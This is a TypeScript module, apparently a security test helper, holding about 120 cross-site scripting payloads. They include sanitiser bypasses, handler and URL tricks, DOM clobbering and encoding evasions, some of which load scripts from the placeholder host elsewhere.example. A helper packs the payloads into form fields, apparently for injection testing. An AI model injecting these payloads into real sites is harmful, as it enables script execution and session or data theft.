// A hundred ways in which a text has been made to run in somebody's browser. Each calls `pwned(number)` or asks a foreign address.

const ADDRESS = 'https://elsewhere.example';

const WAYS: readonly ((at: number) => string)[] = [
  // Elements that run by themselves.
  (at) => `<script>pwned(${at})</script>`,
  (at) => `<SCRIPT SRC=${ADDRESS}/${at}.js></SCRIPT>`,
  (at) => `</title><script>pwned(${at})</script>`,
  (at) => `</textarea><script>pwned(${at})</script>`,
  (at) => `</style><script>pwned(${at})</script>`,
  (at) => `</script><script>pwned(${at})</script>`,
  (at) => `--><script>pwned(${at})</script><!--`,
  (at) => `]]><script>pwned(${at})</script>`,
  (at) => `<scr<script>ipt>pwned(${at})</scr</script>ipt>`,
  (at) => `<script/x>pwned(${at})</script >`,
  (at) => `<script type=module>pwned(${at})</script>`,
  (at) => `<script\u000C>pwned(${at})</script>`,
  (at) => `<script src="data:text/javascript,pwned(${at})"></script>`,
  (at) => `<iframe srcdoc="<script>parent.pwned(${at})</script>"></iframe>`,
  (at) => `<iframe src="javascript:parent.pwned(${at})"></iframe>`,
  (at) => `<object data="javascript:pwned(${at})"></object>`,
  (at) => `<object data="data:text/html,<script>parent.pwned(${at})</script>"></object>`,
  (at) => `<embed src="javascript:pwned(${at})">`,
  (at) => `<embed src="${ADDRESS}/${at}.swf">`,
  (at) => `<base href="${ADDRESS}/${at}/">`,
  (at) => `<meta http-equiv="refresh" content="0;url=javascript:pwned(${at})">`,
  (at) => `<meta http-equiv="refresh" content="0;url=${ADDRESS}/${at}">`,
  (at) => `<link rel="stylesheet" href="${ADDRESS}/${at}.css">`,
  (at) => `<link rel="prefetch" href="${ADDRESS}/${at}">`,
  (at) => `<link rel="import" href="${ADDRESS}/${at}">`,
  (at) => `<frameset onload=pwned(${at})>`,
  (at) => `<applet code="${ADDRESS}/${at}.class"></applet>`,
  (at) => `<portal src="${ADDRESS}/${at}"></portal>`,
  // Handlers.
  (at) => `<img src=x onerror=pwned(${at})>`,
  (at) => `<img src=x onerror="pwned(${at})"`,
  (at) => `<img/src=x/onerror=pwned(${at})>`,
  (at) => `<img src=x:x onerror\n=\npwned(${at})>`,
  (at) => `<IMG """><SCRIPT>pwned(${at})</SCRIPT>">`,
  (at) => `<img src="${ADDRESS}/${at}.gif">`,
  (at) => `<img srcset="${ADDRESS}/${at}.gif 1x">`,
  (at) => `<img src=x onerror=&#112;wned(${at})>`,
  (at) => `<img src=x onerror=\\u0070wned(${at})>`,
  (at) => `<body onload=pwned(${at})>`,
  (at) => `<body onpageshow=pwned(${at})>`,
  (at) => `<input autofocus onfocus=pwned(${at})>`,
  (at) => `<select autofocus onfocus=pwned(${at})>`,
  (at) => `<textarea autofocus onfocus=pwned(${at})>`,
  (at) => `<video><source onerror=pwned(${at})></video>`,
  (at) => `<video src=x onerror=pwned(${at})></video>`,
  (at) => `<video poster="${ADDRESS}/${at}.gif"></video>`,
  (at) => `<audio src=x onerror=pwned(${at})>`,
  (at) => `<details open ontoggle=pwned(${at})>`,
  (at) => `<marquee onstart=pwned(${at})>`,
  (at) => `<div style="animation:x 1s" onanimationstart=pwned(${at})>`,
  (at) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=pwned(${at})>`,
  (at) => `<p onmouseover=pwned(${at})>over</p>`,
  (at) => `<div onpointerrawupdate=pwned(${at}) style="position:fixed;inset:0">`,
  (at) => `<button popovertarget=x onbeforetoggle=pwned(${at})>`,
  (at) => `<dialog open onclose=pwned(${at})><form method=dialog><button>x`,
  (at) => `<iframe onload=pwned(${at})></iframe>`,
  (at) => `<x contenteditable onblur=pwned(${at})>x`,
  (at) => `<x tabindex=1 autofocus onfocusin=pwned(${at})>`,
  // SVG and MathML.
  (at) => `<svg onload=pwned(${at})>`,
  (at) => `<svg><script>pwned(${at})</script></svg>`,
  (at) => `<svg><script href="data:text/javascript,pwned(${at})"/></svg>`,
  (at) => `<svg><animate onbegin=pwned(${at}) attributeName=x dur=1s>`,
  (at) => `<svg><a><animate attributeName=href values=javascript:pwned(${at}) /><text y=20>x</text></a>`,
  (at) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='pwned(${at})'/>#x"/></svg>`,
  (at) => `<svg><image href="${ADDRESS}/${at}.svg"/></svg>`,
  (at) => `<svg><foreignObject><img src=x onerror=pwned(${at})></foreignObject></svg>`,
  (at) => `<math><maction actiontype="statusline#x" xlink:href="javascript:pwned(${at})">x`,
  (at) => `<math href="javascript:pwned(${at})">x</math>`,
  // What a sanitiser makes dangerous by mending it.
  (at) => `<noscript><p title="</noscript><img src=x onerror=pwned(${at})>">`,
  (at) => `<svg></p><style><a id="</style><img src=x onerror=pwned(${at})>">`,
  (at) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned(${at})>">`,
  (at) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned(${at})>`,
  (at) => `<template><script>pwned(${at})</script></template>`,
  (at) => `<select><template shadowrootmode=open><img src=x onerror=pwned(${at})></template></select>`,
  (at) => `<xmp><p title="</xmp><img src=x onerror=pwned(${at})>">`,
  (at) => `<a title="--!><img src=x onerror=pwned(${at})>"><!--`,
  (at) => `<![CDATA[><img src=x onerror=pwned(${at})>]]>`,
  (at) => `<?xml-stylesheet href="javascript:pwned(${at})"?>`,
  // Out of an attribute, a string, a template.
  (at) => `" onmouseover="pwned(${at})" x="`,
  (at) => `' autofocus onfocus='pwned(${at})`,
  (at) => `" autofocus onfocus=pwned(${at}) tabindex=1 "`,
  (at) => `\`-pwned(${at})-\``,
  (at) => `'-pwned(${at})-'`,
  (at) => `\\';pwned(${at});//`,
  (at) => `\u2028pwned(${at})\u2029`,
  (at) => `{{constructor.constructor('pwned(${at})')()}}`,
  (at) => `\${pwned(${at})}`,
  (at) => `<%= pwned(${at}) %>`,
  (at) => `#{pwned(${at})}`,
  (at) => `{"$$typeof":"react.element","type":"img","props":{"src":"x","onError":"pwned(${at})"}}`,
  (at) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned(${at})>"}}`,
  // Addresses.
  (at) => `javascript:pwned(${at})`,
  (at) => `JaVaScRiPt:pwned(${at})`,
  (at) => `java\tscript:pwned(${at})`,
  (at) => `\u0001javascript:pwned(${at})`,
  (at) => `javascript&colon;pwned(${at})`,
  (at) => `[x](javascript:pwned(${at}))`,
  (at) => `![x](${ADDRESS}/${at}.gif)`,
  (at) => `<a href="javascript:pwned(${at})" autofocus>x</a>`,
  (at) => `<form action="javascript:pwned(${at})"><button autofocus>x</button></form>`,
  (at) => `<button formaction="javascript:pwned(${at})">x</button>`,
  (at) => `data:text/html,<script>pwned(${at})</script>`,
  (at) => `vbscript:pwned(${at})`,
  (at) => `//elsewhere.example/${at}`,
  // Style sheets.
  (at) => `<style>@import '${ADDRESS}/${at}.css';</style>`,
  (at) => `<style>*{background:url(${ADDRESS}/${at}.gif)}</style>`,
  (at) => `<b style="background:url(${ADDRESS}/${at}.gif)">x</b>`,
  (at) => `};*{background:url(${ADDRESS}/${at}.gif)}`,
  (at) => `<b style="width:expression(pwned(${at}))">x</b>`,
  // Names that a page may trip over.
  (at) => `<form id=document><input name=cookie value=${at}></form>`,
  (at) => `<a id=trustedTypes><a id=trustedTypes name=createPolicy href="x:${at}">`,
  (at) => `<img name=getElementById src="x:${at}">`,
  // Letters that become others, and marks that turn the line round.
  (at) => `＜script＞pwned(${at})＜/script＞`,
  (at) => `<ſcript>pwned(${at})</ſcript>`,
  (at) => `<img src=x onerror\u2003=pwned(${at})>`,
  (at) => `+ADw-script+AD4-pwned(${at})+ADw-/script+AD4-`,
  (at) => `\u202E<script>pwned(${at})</script>`,
  (at) => `\u001B[31m<img src=x onerror=pwned(${at})>`,
  (at) => `%3Cscript%3Epwned(${at})%3C/script%3E`,
  (at) => `&lt;script&gt;pwned(${at})&lt;/script&gt;`,
  (at) => `&#60;img src=x onerror=pwned(${at})&#62;`,
];

export const PAYLOADS: readonly string[] = WAYS.map((way, at) => way(at));

/** Names that every JavaScript object has already. */
export const NAMES_OF_OBJECTS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
] as const;

/**
 * As many payloads as fit, each on a line of its own, from a place that moves on with every call: short fields get different
 * ones, and long ones all of them.
 */
export function payloadText(): (most: number) => string {
  let next = 0;
  return (most) => {
    const chosen: string[] = [];
    let length = 0;
    for (const _ of PAYLOADS) {
      const payload = PAYLOADS[next % PAYLOADS.length] ?? '';
      // A form sends each end of a line as two characters.
      const taken = payload.replaceAll('\n', '\r\n').length + 2;
      next += 1;
      if (length + taken > most && chosen.length === 0) continue;
      if (length + taken > most) break;
      chosen.push(payload);
      length += taken;
    }
    return chosen.join('\n');
  };
}
